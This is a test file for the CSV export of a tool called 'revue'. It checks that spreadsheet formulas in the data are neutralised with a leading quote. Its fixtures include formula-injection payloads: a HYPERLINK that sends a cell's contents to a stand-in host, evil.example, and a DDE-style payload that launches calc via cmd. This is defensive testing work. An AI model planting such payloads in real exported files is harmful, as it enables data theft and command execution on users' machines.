/**
 * `revue figures --format csv` writes no formula (issue 13): text from the
 * data that a spreadsheet would evaluate (`=HYPERLINK(…)`, `+SUM(…)`,
 * `-2+3`, `@cmd`, a leading tab or CR) gets a leading `'`, as OWASP advises;
 * the numbers revue writes itself, negative ones included, stay numbers.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { figuresToCsv, csvText } from '../../src/analyze/export.js';
import { computeFigures } from '../../src/analyze/index.js';
import { validate } from '../../src/validate/index.js';
import { csvCells, FIXTURES, tempWorkspace } from '../helpers.js';

const framework = await readFile(path.join(FIXTURES, 'minimal', 'framework.yaml'), 'utf8');
const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  await Promise.all(cleanups.splice(0).map((cleanup) => cleanup()));
});

const hostile = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  team: "+SUM(1+1)*cmd|' /C calc'!A0",
  manager: '@SUM(1)',
};
const rep = (discovery: number, year: number) =>
  [
    `name: ${JSON.stringify(hostile.name)}`,
    'role: junior',
    `team: ${JSON.stringify(hostile.team)}`,
    `manager: ${JSON.stringify(hostile.manager)}`,
    'assessments:',
    `  - date: ${year}-02-10`,
    '    scores:',
    `      discovery: ${discovery}`,
    '',
  ].join('\n');

async function csvOf(locale: 'en' | 'fr', table: 'competencies' | 'reps') {
  const ws = await tempWorkspace({
    'framework.yaml': framework.replace('locale: en', `locale: ${locale}`),
    // Discovery goes from 2.5 to 2: a delta of -0.5, written by revue.
    '2025/ann-lee.yaml': rep(2.5, 2025),
    '2026/ann-lee.yaml': rep(2, 2026),
  });
  cleanups.push(ws.cleanup);
  const { dataset } = await validate({ data: ws.dir });
  if (dataset === undefined) throw new Error('valid');
  const figures = computeFigures(dataset, 2026, '2026-12-31');
  return csvCells(figuresToCsv(figures, { framework: dataset.framework, table }), locale === 'fr' ? ';' : ',');
}

describe('no cell of the CSV is a formula', () => {
  it('neutralises a text that begins with = + - @, a tab or a CR, and nothing else', () => {
    expect(['=1+1', '+1', '-2+3', '@cmd', '\t=1', '\r=1'].map(csvText)).toEqual([
      "'=1+1",
      "'+1",
      "'-2+3",
      "'@cmd",
      "'\t=1",
      "'\r=1",
    ]);
    expect(['Ann Lee', 'a=b', ' =1', '', "'quoted"].map(csvText)).toEqual(['Ann Lee', 'a=b', ' =1', '', "'quoted"]);
  });

  it.each([
    ['en', '-0.5'],
    ['fr', '-0,5'],
  ] as const)(
    '%s, --table competencies: names and teams as text, the negative delta %s a number',
    async (locale, delta) => {
      const rows = await csvOf(locale, 'competencies');
      const discovery = rows.find((row) => row[4] === 'discovery');
      expect(discovery?.slice(0, 5)).toEqual(['2026', 'ann-lee', `'${hostile.name}`, `'${hostile.team}`, 'discovery']);
      expect(discovery?.[8]).toBe(delta);
      // No cell of any row starts a formula.
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
    },
  );

  it.each([
    ['en', '-0.5'],
    ['fr', '-0,5'],
  ] as const)('%s, --table reps: the manager too; the overall delta %s stays a number', async (locale, delta) => {
    const rows = await csvOf(locale, 'reps');
    const ann = rows[1];
    expect(ann?.slice(0, 6)).toEqual([
      '2026',
      'ann-lee',
      `'${hostile.name}`,
      `'${hostile.team}`,
      `'${hostile.manager}`,
      'junior',
    ]);
    expect(ann?.[9]).toBe(delta);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+([.,]\d+)?$)/);
  });
});
